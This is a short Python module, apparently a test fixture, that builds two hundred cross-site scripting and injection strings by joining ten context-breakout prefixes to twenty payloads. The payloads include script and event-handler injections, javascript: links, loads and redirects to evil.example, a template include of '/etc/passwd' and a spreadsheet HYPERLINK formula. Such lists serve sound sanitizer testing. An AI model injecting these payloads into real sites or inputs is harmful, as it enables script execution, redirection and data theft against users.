"""Two hundred strings that want to come alive in a page: every way out of a place in it, before everything that acts once it is out."""

from __future__ import annotations

WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title></textarea></style>",
    "</q></bdi></a></td></tr></table>",
    "--><!-- ]]>",
    "\u202e",
    "%22%3E",
    '\\"; ',
    '" x="',
)
ACTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=a></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    'onmouseover="alert(1)" autofocus onfocus="alert(1)"',
    "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ self.__init__ }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;b&#x3e;",
    '=HYPERLINK("//evil.example";"x")',
    "\x00\x08\x1b<b>\ufffe\u2028x</b>",
)
HOSTILE = tuple(way + act for way in WAYS_OUT for act in ACTS)
